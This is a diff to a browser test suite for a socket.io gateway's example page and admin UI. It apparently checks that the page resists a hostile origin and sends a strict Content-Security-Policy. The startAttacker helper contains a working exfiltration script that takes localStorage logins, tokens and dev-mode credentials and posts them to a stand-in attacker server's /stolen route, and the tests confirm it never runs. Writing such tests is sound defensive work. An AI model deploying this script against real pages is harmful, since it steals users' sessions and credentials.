@@ -3,10 +3,17 @@
 // connecting to every namespace (the plain WebSocket endpoint included) over each transport, emits
 // with acks from the emit box and the ready-made forms, the publish panel closing the loop, errors
 // on screen, the page opened from disk, and socket.io-client's bundle served by the gateway. Every
-// request the page makes is checked to stay on the gateway. Screenshots go to tests/js/output/.
+// request the page makes is checked to stay on the gateway. The README's first steps on a laptop
+// screen. Beside a hostile origin: no script of another origin runs on the gateway's (where the
+// admin UI's login and dev mode's credentials are), whatever the address or the Gateway URL field
+// says, and `/` and `/admin/` carry a strict Content-Security-Policy. Screenshots go to
+// tests/js/output/.
 
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { mkdirSync, readFileSync } from 'node:fs';
+import http from 'node:http';
 import path from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { fileURLToPath, pathToFileURL } from 'node:url';
@@ -31,11 +38,12 @@ after(async () => {
 
 /**
  * A fresh browser page on `url`, recording every request and WebSocket it opens. Requests to any
- * host but the gateway's are recorded as foreign and aborted. `file://` pages (opened from disk)
- * are the page itself, not a request leaving the machine.
+ * host but the gateway's are recorded as foreign and aborted, unless `letForeignThrough` (to
+ * show what a hostile origin would get). `file://` pages (opened from disk) are the page itself,
+ * not a request leaving the machine.
  */
-async function openPage(t, gw, url = `${gw.url}/`) {
-  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
+async function openPage(t, gw, url = `${gw.url}/`, { viewport = { width: 1400, height: 1000 }, letForeignThrough = false, before } = {}) {
+  const context = await browser.newContext({ viewport });
   context.setDefaultTimeout(h.TIMEOUT);
   context.setDefaultNavigationTimeout(h.TIMEOUT);
   t.after(() => context.close());
@@ -46,11 +54,16 @@ async function openPage(t, gw, url = `${gw.url}/`) {
     seen.requests.push(target.href);
     if (target.protocol === 'file:' || target.host === gateway) return route.continue();
     seen.foreign.push(target.href);
-    return route.abort();
+    return letForeignThrough ? route.continue() : route.abort();
   });
   const page = await context.newPage();
   page.on('websocket', (ws) => seen.websockets.push(ws.url()));
   page.on('pageerror', (error) => seen.errors.push(error.message));
+  // What the page's Content-Security-Policy refused: the page itself never tries anything it forbids.
+  page.on('console', (message) => {
+    if (message.type() === 'error' && /Content Security Policy|Trusted ?(Type|Script|HTML)/i.test(message.text())) seen.errors.push(message.text());
+  });
+  if (before) await before(page);
   await page.goto(url);
   return { page, seen, gateway };
 }
@@ -261,6 +274,39 @@ describe('the example page, served by a gateway in dev mode', () => {
     assertStayedOnGateway(session);
   });
 
+  it("follows the README on a laptop screen (1366x768): Connect, Send subscribe as it comes, Publish as it comes, the update in view", async (t) => {
+    const session = await openPage(t, gw, `${gw.url}/`, { viewport: { width: 1366, height: 768 } });
+    const { page } = session;
+    await h.eventually(async () => (await control(page, 'API key').inputValue()) || null, 'a prefilled API key');
+    await button(page, 'Connect').click();
+    await textMatching(status(page), /^connected/, 'connected');
+    // The emit box's hints read as hints, not as values someone typed.
+    for (const name of ['Event', 'Payload']) {
+      assert.equal(await control(page, name).inputValue(), '', name);
+      assert.match(await control(page, name).getAttribute('placeholder'), /^(an? |JSON)/, `${name}'s placeholder`);
+    }
+
+    const form = page.getByRole('form', { name: 'subscribe form', exact: true });
+    await form.getByRole('button', { name: 'Send subscribe' }).click();
+    await textMatching(page.getByRole('status', { name: 'Ack' }), /"subscriptionKey": "execution:e1"/, 'the ack of the prefilled subscribe form');
+    assert.equal(await page.locator('#errors').textContent(), '', 'no error shown');
+
+    await button(page, 'Publish').click();
+    await textMatching(page.getByRole('status', { name: 'Publish result' }), /^202: /, 'the publish accepted');
+    await logEntry(page, 'in', 'update', /"executionId": "e1"/);
+    // Where the Publish button left the page: the update is on screen, not scrolled away.
+    const update = logEntries(page).filter({ has: page.locator('.name', { hasText: /^update$/ }) }).first();
+    const seen = await update.evaluate((entry) => {
+      const box = entry.getBoundingClientRect();
+      const inViewport = box.top >= 0 && box.top + 20 <= window.innerHeight && box.left >= 0 && box.right <= window.innerWidth;
+      const atTop = document.elementFromPoint(box.left + 10, box.top + 8);
+      return { inViewport, visible: inViewport && entry.contains(atTop), box: { top: box.top, bottom: box.bottom }, scrollY: window.scrollY, height: window.innerHeight };
+    });
+    assert.ok(seen.visible, `the update entry on screen after Publish: ${JSON.stringify(seen)}`);
+    await page.screenshot({ path: path.join(OUTPUT, 'readme-walkthrough-1366x768.png') });
+    assertStayedOnGateway(session);
+  });
+
   it('works over polling only, with no WebSocket opened', async (t) => {
     const session = await openPage(t, gw);
     const { page } = session;
@@ -372,5 +418,191 @@ describe("socket.io-client's browser bundle", () => {
     assert.deepEqual(body.socketio, { path: '/custom-io', client: { version: lock.packages['node_modules/socket.io-client'].version, served: true } });
     const hub = body.namespaces.find((ns) => ns.transport === 'websocket' && ns.path === '/ws');
     assert.deepEqual(hub.clientEvents.map((e) => e.name), ['ping', 'subscribe', 'unsubscribe']);
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// A hostile origin next to the gateway
+// ---------------------------------------------------------------------------------------------
+
+/**
+ * A server on another origin that plays an attacker. Its socket.io-client "bundle", if a page ever
+ * runs it, takes what it can reach on that page's origin (localStorage, where the admin UI keeps
+ * its login; dev mode's `/api/v1/dev`; the token field) and posts it back to `/stolen`. It answers
+ * the page's other requests as a gateway would (`catalog` as its namespaces, from any origin), so
+ * nothing but the page itself stands in the way. Resolves to `{url, requests, stolen}`.
+ */
+async function startAttacker(t, { catalog }) {
+  const requests = [];
+  const stolen = [];
+  let hostileScript = '';
+  const server = http.createServer((request, response) => {
+    const chunks = [];
+    request.on('data', (chunk) => chunks.push(chunk));
+    request.on('end', () => {
+      requests.push(`${request.method} ${request.url}`);
+      const open = { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': '*' };
+      const route = new URL(request.url, 'http://attacker').pathname;
+      if (route === '/stolen') {
+        stolen.push(Buffer.concat(chunks).toString());
+        response.writeHead(204, open).end();
+      } else if (route.endsWith('.js')) {
+        response.writeHead(200, { 'Content-Type': 'application/javascript' }).end(hostileScript);
+      } else if (route === '/api/v1/namespaces') {
+        response.writeHead(200, { ...open, 'Content-Type': 'application/json' }).end(JSON.stringify(catalog));
+      } else if (route === '/api/v1/dev') {
+        response.writeHead(200, { ...open, 'Content-Type': 'application/json' }).end('{"devMode":false}');
+      } else {
+        response.writeHead(404, open).end();
+      }
+    });
+  });
+  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
+  t.after(() => new Promise((resolve) => {
+    server.closeAllConnections();
+    server.close(resolve);
+  }));
+  const url = `http://127.0.0.1:${server.address().port}`;
+  hostileScript = `(async () => {
+    window.hostileScriptRan = true;
+    const loot = { origin: location.origin, localStorage: { ...localStorage }, token: document.getElementById('token')?.value };
+    try { loot.dev = await (await fetch('/api/v1/dev')).json(); } catch (error) { loot.dev = String(error); }
+    await fetch(${JSON.stringify(`${url}/stolen`)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
+  })();`;
+  return { url, requests, stolen };
+}
+
+/** `Content-Security-Policy` as `{directive: [sources]}`. */
+const parsePolicy = (header) => Object.fromEntries(header.split(';').map((d) => d.trim().split(/\s+/)).filter(([name]) => name).map(([name, ...sources]) => [name.toLowerCase(), sources]));
+
+/** The sources that govern `directive` (fetch directives fall back to `default-src`). */
+function effectiveSources(policy, directive) {
+  if (policy[directive]) return policy[directive];
+  const fetchDirective = directive.endsWith('-src');
+  return fetchDirective ? policy['default-src'] ?? ['*'] : ['*'];
+}
+
+/** Asserts the policy a page served by the gateway must have: its own scripts only, no plugins, no base, no form target, no framing. */
+function assertStrictPolicy(header, what) {
+  assert.ok(header, `${what} sends a Content-Security-Policy`);
+  const policy = parsePolicy(header);
+  assert.deepEqual(policy['default-src'], ["'none'"], `${what}: default-src`);
+  const scripts = effectiveSources(policy, 'script-src');
+  for (const source of scripts) assert.match(source, /^('self'|'sha256-[A-Za-z0-9+/]+=*')$/, `${what}: script-src ${scripts.join(' ')}`);
+  for (const directive of ['script-src-elem', 'script-src-attr']) assert.equal(policy[directive], undefined, `${what}: no ${directive} to widen script-src`);
+  for (const directive of ['object-src', 'base-uri', 'form-action', 'frame-ancestors']) {
+    assert.deepEqual(effectiveSources(policy, directive), ["'none'"], `${what}: ${directive}`);
+  }
+  return policy;
+}
+
+const sha256 = (text) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+
+describe('the page and the admin UI on one origin, with a hostile origin around', () => {
+  let gw;
+  let catalog;
+  before(async () => {
+    const run = spawnSync(h.GATEWAY_BIN, ['hash-password', '--cost', '4'], { input: 'admin password\n', encoding: 'utf8', timeout: 15000 });
+    assert.equal(run.status, 0, run.stderr);
+    // Dev mode, with the admin view on: what the issue's attack reached.
+    gw = await h.startGateway({ env: { JWT_SECRET: undefined, API_KEYS: undefined, ADMIN_USERNAME: 'operator', ADMIN_PASSWORD_HASH: run.stdout.trim() } });
+    catalog = (await h.api(gw.url, '/api/v1/namespaces', undefined, { headers: {} })).body;
+  });
+  after(async () => {
+    await gw?.stop();
+  });
+
+  /** The admin UI's login, as it keeps it on the gateway's origin. */
+  const withAdminLogin = (page) => page.addInitScript(() => {
+    if (location.protocol.startsWith('http')) localStorage.setItem('session_id', 'the-operators-admin-login');
+  });
+
+  it('runs no script from a gateway named in its address (?gateway=), and sends that origin nothing', async (t) => {
+    const attacker = await startAttacker(t, { catalog });
+    const session = await openPage(t, gw, `${gw.url}/?gateway=${encodeURIComponent(attacker.url)}`, { letForeignThrough: true, before: withAdminLogin });
+    const { page } = session;
+    // Ready (its own socket.io-client loaded), or robbed: whichever comes first.
+    await h.eventually(async () => attacker.stolen.length > 0 || page.evaluate(() => typeof window.io === 'function'), 'the page ready, or the attacker served');
+    assert.deepEqual(attacker.stolen, [], 'what the hostile script took');
+    assert.equal(await page.evaluate(() => window.hostileScriptRan), undefined);
+    assert.deepEqual(attacker.requests, [], 'requests that reached the origin named in the address');
+    assert.ok(session.seen.requests.includes(`${gw.url}/socket.io/socket.io.min.js`), session.seen.requests.join('\n'));
+    assert.equal(await control(page, 'Gateway URL').inputValue(), gw.url);
+    await textMatching(page.locator('#notice'), new RegExp(`${attacker.url.replace(/[.:/]/g, '\\$&')}.*not used`), 'the notice that the address named another gateway');
+    // It still works with its own gateway.
+    await h.eventually(async () => (await control(page, 'Token').inputValue()) || null, 'a prefilled token');
+    await connect(page, '/workflow');
+    await screenshot(page, 'hostile-gateway-in-address');
+    assert.deepEqual(session.seen.errors, [], 'uncaught errors in the page');
+  });
+
+  it('connects to another gateway typed into it with its own socket.io-client, and carries no prefilled credential there', async (t) => {
+    const attacker = await startAttacker(t, { catalog });
+    const session = await openPage(t, gw, `${gw.url}/`, { letForeignThrough: true, before: withAdminLogin });
+    const { page } = session;
+    await h.eventually(async () => (await control(page, 'API key').inputValue()) || null, 'a prefilled API key');
+    await page.waitForFunction(() => typeof window.io === 'function', null, { timeout: h.TIMEOUT });
+    await control(page, 'Gateway URL').fill(`${attacker.url}/some/path?x=1#y`);
+    await control(page, 'Gateway URL').dispatchEvent('change');
+    await h.eventually(() => attacker.requests.includes('GET /api/v1/namespaces'), 'the other gateway asked for its namespaces');
+    assert.equal(await control(page, 'Gateway URL').inputValue(), attacker.url, 'only the origin is kept');
+    // Dev mode's token and key belong to the gateway that gave them.
+    assert.equal(await control(page, 'Token').inputValue(), '');
+    assert.equal(await control(page, 'API key').inputValue(), '');
+    await control(page, 'Token').fill('a-token-for-the-other-gateway');
+    await connect(page, '/workflow', { transports: 'polling', expect: /^connect_error: / });
+    assert.ok(attacker.requests.some((r) => r.startsWith('GET /socket.io/?EIO=4&transport=polling')), attacker.requests.join('\n'));
+    assert.deepEqual(attacker.requests.filter((r) => /\.js(\?|$)/.test(r)), [], 'scripts asked of the other gateway');
+    assert.deepEqual(attacker.stolen, []);
+    assert.deepEqual(session.seen.errors, [], 'uncaught errors in the page');
+  });
+
+  it('sends a strict Content-Security-Policy with / and with /admin/, naming exactly their own scripts', async () => {
+    const page = await fetch(`${gw.url}/`, { signal: AbortSignal.timeout(h.TIMEOUT) });
+    const policy = assertStrictPolicy(page.headers.get('content-security-policy'), '/');
+    // What the browser runs: comments aside (they may mention the tags).
+    const html = (await page.text()).replace(/<!--[\s\S]*?-->/g, '');
+    const inline = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((m) => m[1]);
+    assert.equal(inline.length, 1, 'one inline script');
+    assert.deepEqual(policy['script-src'].filter((s) => s.startsWith("'sha256-")), inline.map(sha256), 'the inline script, by hash');
+    assert.ok(!/<script[^>]* src=/.test(html), 'no script element names a source');
+    assert.ok(!/ on[a-z]+=/i.test(html), 'no inline event handler');
+    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((m) => m[1]);
+    assert.deepEqual(policy['style-src'], styles.map(sha256), 'the inline stylesheet, by hash, and nothing else');
+    assert.ok(!/ style=/.test(html), 'no style attribute');
+
+    const admin = await fetch(`${gw.url}/admin/`, { signal: AbortSignal.timeout(h.TIMEOUT) });
+    assert.equal(admin.status, 200);
+    const adminPolicy = assertStrictPolicy(admin.headers.get('content-security-policy'), '/admin/');
+    assert.deepEqual(adminPolicy['script-src'], ["'self'"]);
+    assert.deepEqual(adminPolicy['connect-src'], ["'self'"]);
+    assert.ok(!/<script>/.test(await admin.text()), 'the admin UI has no inline script');
+  });
+
+  it('does not run a script injected from another origin, as if the page had a hole', async (t) => {
+    const attacker = await startAttacker(t, { catalog });
+    const session = await openPage(t, gw, `${gw.url}/`, { letForeignThrough: true, before: withAdminLogin });
+    const { page } = session;
+    await page.waitForFunction(() => typeof window.io === 'function', null, { timeout: h.TIMEOUT });
+    const outcome = await page.evaluate((src) => new Promise((resolve) => {
+      const timer = setTimeout(() => resolve('no answer'), 5000);
+      const done = (what) => {
+        clearTimeout(timer);
+        resolve(what);
+      };
+      document.addEventListener('securitypolicyviolation', (e) => done(`refused by ${e.effectiveDirective}`), { once: true });
+      try {
+        const script = document.createElement('script');
+        script.onload = () => done('loaded');
+        script.src = src;
+        document.head.append(script);
+      } catch (error) {
+        done(`refused: ${error.name}`);
+      }
+    }), `${attacker.url}/socket.io/socket.io.min.js`);
+    assert.match(outcome, /^refused/);
+    assert.ok(session.seen.errors.length > 0, 'the browser reports what the policy refused');
+    assert.deepEqual(attacker.stolen, []);
+    assert.deepEqual(attacker.requests, []);
   });
 });
